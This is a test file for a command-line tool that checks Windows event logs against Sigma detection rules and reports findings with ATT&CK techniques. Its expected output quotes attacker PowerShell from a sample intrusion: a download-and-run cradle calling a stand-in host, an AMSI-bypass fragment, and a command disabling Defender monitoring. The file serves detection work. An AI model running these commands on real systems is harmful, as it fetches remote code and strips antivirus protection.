import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { stripVTControlCharacters } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import type { Report } from './report.ts';
import { svc, svcOn } from './testing/svc.ts';

const samples = fileURLToPath(new URL('../../config/samples/', import.meta.url));
const powershell = `${samples}intrusion-powershell.evtx`;
const security = `${samples}intrusion-security.evtx`;
const folder = mkdtempSync(join(tmpdir(), 'svc-cli-'));
afterAll(() => rmSync(folder, { recursive: true }));

function file(name: string, text: string): string {
  writeFileSync(join(folder, name), text);
  return join(folder, name);
}

const logons = file(
  'logons.yml',
  `title: Any Logon
id: 2c1b9b5e-6d0c-4f0a-9a3e-0c1d2e3f4a5b
author: A. Writer
level: high
tags: [attack.initial-access, attack.t1078]
logsource: { product: windows, service: security }
detection:
  logon: { EventID: 4624 }
  condition: logon
`,
);
const broken = file(
  'broken.yml',
  'title: Broken\nlogsource: { product: windows }\ndetection:\n  a: 1\n  condition: b\n',
);

/** Matched events of the one finding, and how many of them are given. */
async function countAndGiven(...more: string[]): Promise<number[]> {
  const { out } = await svc('analyze', security, '--rules', logons, '--format', 'json', ...more);
  return (JSON.parse(out) as Report).findings.flatMap(({ count, events }) => [count, events.length]);
}

describe('svc analyze --format json', () => {
  it('gives one object for one file, as other programs rely on', async () => {
    const { code, out, err } = await svc(
      'analyze',
      security,
      '--rules',
      logons,
      '--format',
      'json',
      '--max-events',
      '1',
    );
    expect({ code, err }).toEqual({ code: 0, err: '' });
    const report = JSON.parse(out) as Report;
    expect(Object.keys(report)).toEqual([
      'file',
      'sha256',
      'log_type',
      'events',
      'rules',
      'findings',
      'warnings',
      'duration_ms',
    ]);
    expect(report).toMatchObject({
      file: security,
      sha256: createHash('sha256').update(readFileSync(security)).digest('hex'),
      log_type: 'evtx',
      rules: { loaded: 1, rejected: [] },
      warnings: [],
    });
    expect(report.events).toBeGreaterThan(200);
    expect(report.duration_ms).toBeGreaterThanOrEqual(0);
    expect(report.findings).toHaveLength(1);
    expect(report.findings[0]).toMatchObject({
      rule_id: '2c1b9b5e-6d0c-4f0a-9a3e-0c1d2e3f4a5b',
      rule_name: 'Any Logon',
      rule_author: 'A. Writer',
      severity: 'high',
      tags: ['attack.initial-access', 'attack.t1078'],
      count: expect.any(Number),
      events: [
        {
          record_id: expect.stringMatching(/^39027\d\d$/),
          timestamp: expect.stringMatching(/^2026-11-17T\d\d:\d\d:\d\d\.\d{7}Z$/),
          computer: 'DC01.corp.harrowpell.example',
          channel: 'Security',
          event_id: '4624',
          fields: { EventID: 4624, LogonType: 3, TargetLogonId: expect.stringMatching(/^0x/) },
        },
      ],
    });
  });

  it('gives an array for several files, also when only one could be read', async () => {
    const both = await svc('analyze', security, powershell, '--format', 'json');
    expect(both.code).toBe(0);
    expect((JSON.parse(both.out) as Report[]).map((report) => report.file)).toEqual([security, powershell]);
    const one = await svc('analyze', join(folder, 'none.evtx'), powershell, '--format', 'json');
    expect(one.code).toBe(2);
    expect(one.err).toContain('none.evtx: there is no such file');
    expect((JSON.parse(one.out) as Report[]).map((report) => report.file)).toEqual([powershell]);
    const none = await svc('analyze', logons, join(folder, 'none.evtx'), '--format', 'json');
    expect(none).toMatchObject({ code: 2, out: '[]\n' });
  });

  it('limits the events of a finding to --max-events, 10 if not said, all of them for 0', async () => {
    const [count, given] = await countAndGiven();
    expect(count).toBeGreaterThan(10);
    expect(given).toBe(10);
    expect(await countAndGiven('--max-events', '3')).toEqual([count, 3]);
    expect(await countAndGiven('--max-events', '0')).toEqual([count, count]);
  });
});

it('svc analyze --format jsonl gives one line per file', async () => {
  const { code, out } = await svc('analyze', security, powershell, '--format', 'jsonl');
  expect(code).toBe(0);
  const lines = out.trimEnd().split('\n');
  expect(lines.map((line) => (JSON.parse(line) as Report).file)).toEqual([security, powershell]);
});

describe('svc analyze --format table', () => {
  it('is the default, worst findings first, with ATT&CK and times', async () => {
    const { code, out } = await svc('analyze', powershell);
    expect(code).toBe(0);
    const [head, told, findings] = out.split('\n\n');
    expect(told).toMatch(/^ {2}First sign of execution at 2026-11-17 08:52:48 UTC on WS-FIN-07/);
    expect(`${head}\n\n${findings}`).toBe(`${powershell}
  Windows Event Log (EVTX), 36 events, 68.0 KiB
  Host WS-FIN-07.corp.harrowpell.example
  SHA-256 ${createHash('sha256').update(readFileSync(powershell)).digest('hex')}

  high    1  Protection Of Defender Switched Off By A Preference        T1562.001  defense evasion                       2026-11-17 09:04:03
             ScriptBlockText: Set-MpPreference -DisableRealtimeMonitoring $true
  high    1  Script Block Downloads And Runs Code                       T1059.001 T1105  execution, command and control  2026-11-17 08:52:48
             ScriptBlockText: IEX (New-Object Net.WebClient).DownloadString('http://cdn.freight-docs.example/inv/4471')
  high    1  Script Block Tampers With AMSI                             T1562.001 T1059.001  execution, defense evasion  2026-11-17 08:52:48
             ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…
  high    1  Script Block Weakens Defender                              T1562.001  defense evasion                       2026-11-17 09:04:03
             ScriptBlockText: Set-MpPreference -DisableRealtimeMonitoring $true
  medium  1  Program Fetched To A Folder For Passing Files By A Script  T1105  command and control                       2026-11-17 08:52:48
             ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…
  medium  1  Program Started Without A Window By A Script               T1564.003 T1059.001  execution, defense evasion  2026-11-17 08:52:48
             ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…
  medium  1  Time Of A File Set By A Script                             T1070.006  defense evasion                       2026-11-17 08:52:48
             ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…`);
    const { out: story } = await svc('analyze', security, '--quiet');
    const severities = [...story.matchAll(/^ {2}(critical|high|medium|low) +\d/gm)].map(([, severity]) => severity);
    expect(severities).toHaveLength(18);
    expect(severities).toEqual(severities.toSorted((a, b) => order.indexOf(a!) - order.indexOf(b!)));
  });

  it('keeps to the width of the terminal and colours only there', async () => {
    const { code, out } = await svcOn({ width: 60, colour: true }, 'analyze', security);
    expect(code).toBe(0);
    expect(out).toContain('\u001B[1;31mcritical\u001B[0m');
    const findings = stripVTControlCharacters(out.split('\n\n').slice(1, 3).join('\n'));
    for (const line of findings.split('\n')) expect(line.length).toBeLessThanOrEqual(60);
    expect(findings).toContain('2026-11-17 09:26:18 – 09:52:33  T1021.002');
  });

  it('lets nothing in a file name or rule steer the terminal', async () => {
    const title = file('title.yml', readFileSync(logons, 'utf8').replace('Any Logon', '"Any \\e[31mLogon"'));
    const { out } = await svc('analyze', security, '--rules', title);
    expect(out).toContain('Any ?[31mLogon');
    expect(out).not.toContain('\u001B');
  });
});

describe('svc analyze --rules', () => {
  it('takes files and folders, and says which rules it could not load and where', async () => {
    const evasion = fileURLToPath(new URL('../../config/sigma/defense-evasion', import.meta.url));
    const { code, out } = await svc('analyze', powershell, '--rules', broken, '--rules', evasion, '--format', 'json');
    expect(code).toBe(0);
    const { rules, findings } = JSON.parse(out) as Report;
    expect(rules.loaded).toBeGreaterThan(10);
    expect(rules.rejected).toEqual([{ path: broken, line: expect.any(Number), message: expect.stringMatching(/./) }]);
    expect(findings).toHaveLength(5);
    const table = await svc('analyze', powershell, '--rules', broken, '--rules', evasion);
    expect(table.out).toMatch(/rule left out: .*broken\.yml:\d+: /);
  });

  it('never lets a report without any rule pass for a clean one', async () => {
    const { code, out, err } = await svc('analyze', powershell, '--rules', broken, '--format', 'json');
    expect(code).toBe(2);
    expect(err).toContain('no rule is usable');
    expect(JSON.parse(out)).toMatchObject({
      rules: { loaded: 0, rejected: [{ path: broken }] },
      warnings: ['No rule was usable, so nothing was looked for.'],
    });
    expect((await svc('analyze', powershell, '--rules', broken)).out).toContain('Nothing was looked for');
  });

  it('refuses a path that is not there', async () => {
    const { code, out, err } = await svc('analyze', powershell, '--rules', join(folder, 'none'));
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(err).toContain(`${join(folder, 'none')}: there is no such file`);
  });
});

describe('what svc analyze says of the log', () => {
  it('warns of damage and of a log without events', async () => {
    const bytes = readFileSync(security);
    bytes.fill(0, 4096 + 65_536, 4096 + 65_536 + 512);
    writeFileSync(join(folder, 'damaged.evtx'), bytes);
    const { code, out } = await svc('analyze', join(folder, 'damaged.evtx'), '--format', 'json');
    expect(code).toBe(0);
    expect((JSON.parse(out) as Report).warnings.join('\n')).toMatch(/chunk .*byte \d+/i);
    const empty = await svc(
      'analyze',
      file('empty.xml', '<Events></Events>'),
      '--log-type',
      'xml_evtx',
      '--format',
      'json',
    );
    expect((JSON.parse(empty.out) as Report).warnings).toContain('No event was read from this file.');
  });

  it('refuses what is no known log, and types that cannot be read', async () => {
    const text = file('notes.txt', 'Dear all,\n');
    expect(await svc('analyze', text)).toMatchObject({ code: 2, out: '', err: expect.stringContaining('notes.txt') });
    expect(await svc('analyze', text, '--log-type', 'unknown')).toMatchObject({ code: 2, out: '' });
  });
});

describe('svc', () => {
  it.each([
    [[], 'svc analyze FILE'],
    [['analyze'], "missing required argument 'PATH'\nIt is: svc analyze PATH…"],
    [['analyze', 'x', '--level', 'worst'], '--level'],
    [['analyze', 'x', '--threads', '0'], '--threads'],
    [['analyze', 'x', '--since', 'soon'], '--since'],
    [['analyze', 'x', '--since', '2026-03-02', '--until', '2026-03-01'], '--since is not before --until'],
    [['dance'], "unknown command 'dance'\nThere are analyze,"],
    [['analyse', 'x'], 'Did you mean analyze?'],
    [['rules', 'cheque'], 'Did you mean check?'],
    [['rules'], 'svc rules takes one of check, profile, import'],
    [['submit'], 'It is: svc submit PATH…'],
    [['submit', 'x', '--fail-on', 'worst'], '--fail-on'],
    [['submit', 'x', '--type', 'evt'], '--type'],
    [['submit', 'x', '--format', 'csv'], '--format'],
    [['submit', 'x', '--no-wait', '--fail-on', 'low'], '--no-wait'],
    [['submit', 'x', '--server', 'svc.example.org'], 'https://svc.example.org, not'],
    [['submit', 'x', '--case', '7', '--new-case', 'y'], '--case or --new-case'],
    [['submit', 'x', '--new-case', ' '], 'A case has a name'],
    [['submit', 'x', ...Array.from('abcdefghijk').flatMap((tag) => ['--tag', tag])], 'at most 10 tags'],
    [['login', 'svc_token'], 'svc login --server URL'],
    [['login', '--rules', 'x'], "unknown option '--rules'"],
    [['analyze', 'x', '--format', 'xml'], '--format'],
    [['analyze', 'x', '--log-type', 'evt'], '--log-type'],
    [['analyze', 'x', '--max-events', '-1'], '--max-events'],
    [['analyze', 'x', '--max-events', 'ten'], '--max-events'],
    [['analyze', 'x', '--colour'], '--colour'],
    [['analyze', 'x', '--rule', 'y'], 'Did you mean --rules?'],
    [['analyze', 'x', '--output', '--quiet'], '--quiet stands where a value is wanted'],
    [['explain', 'x', 'y'], '--record <N>'],
  ])('refuses %j and says why', async (argv, reason) => {
    const { code, out, err } = await svc(...argv);
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(err).toContain(reason);
    expect(err).toMatch(/\nTry: svc.* --help\n$/);
  });

  it('tells its usage and version', async () => {
    expect(await svc('--help')).toMatchObject({ code: 0, out: expect.stringContaining('Usage: svc COMMAND'), err: '' });
    expect(await svc('analyze', '--help')).toMatchObject({ code: 0, out: expect.stringContaining('--max-events') });
    expect(await svc('--version')).toMatchObject({ code: 0, out: expect.stringMatching(/^\d+\.\d+\.\d+\n$/) });
  });
});

const order = ['critical', 'high', 'medium', 'low'];
